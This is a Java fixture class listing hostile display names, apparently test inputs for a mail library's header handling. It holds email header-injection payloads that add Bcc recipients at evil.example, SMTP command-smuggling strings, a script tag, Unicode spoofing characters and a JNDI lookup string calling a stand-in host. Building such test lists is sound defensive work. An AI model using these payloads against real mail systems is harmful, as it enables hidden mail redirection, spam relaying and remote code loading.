package dev.latchkey.mail;

import java.util.List;

/** What people have called themselves, or their product, to get something into a header that does not belong there. */
final class HostileNames {
    static final List<String> ALL = List.of(
            "\r\nBcc: x@evil.example",
            "\nBcc: x@evil.example",
            "\rBcc: x@evil.example",
            "ada\r\n\r\n<script>alert(1)</script>",
            "ada\n\nbody",
            "ada\r\n Bcc: folded@evil.example",
            "ada\r\n\tBcc: folded@evil.example",
            "ada%0d%0aBcc: x@evil.example",
            "ada%0ABcc: x@evil.example",
            "ada\\r\\nBcc: x@evil.example",
            "ada\u0085Bcc: x@evil.example",
            "ada\u2028Bcc: x@evil.example",
            "ada\u2029Bcc: x@evil.example",
            "ada\u000BBcc: x@evil.example",
            "ada\fBcc: x@evil.example",
            "ada\u0000Bcc: x@evil.example",
            "ada\u560D\u560ABcc: x@evil.example",
            "=?UTF-8?Q?=0D=0ABcc:_x@evil.example?=",
            "=?UTF-8?B?DQpCY2M6IHhAZXZpbC5leGFtcGxl?=",
            "=?utf-8?q?admin?=",
            "\" <x@evil.example>, \"",
            "x@evil.example>, <y@evil.example",
            "<x@evil.example>",
            "ada, x@evil.example",
            "ada; x@evil.example",
            "group: x@evil.example;",
            "(comment) ada",
            "ada\\",
            "ada\"",
            "\"ada\\\"",
            "ada\u202Egro.live",
            "\u2066ada\u2069",
            "ada\uFEFF",
            "\u200Bada",
            "\uD83D\uDD11\uD83D\uDD11\uD83D\uDD11\uD83D\uDD11\uD83D\uDD11\uD83D\uDD11\uD83D\uDD11\uD83D\uDD11\uD83D\uDD11",
            "\uD800ada",
            "Subject: hello",
            "Content-Type: text/html",
            ".\r\nMAIL FROM:<x@evil.example>",
            "\r\n.\r\nQUIT\r\n",
            "--=_0000000000000000",
            "ı̇İſK",
            "${jndi:ldap://evil.example/a}",
            "{{link}}",
            "a".repeat(2_000),
            "ä".repeat(300));

    private HostileNames() {}
}
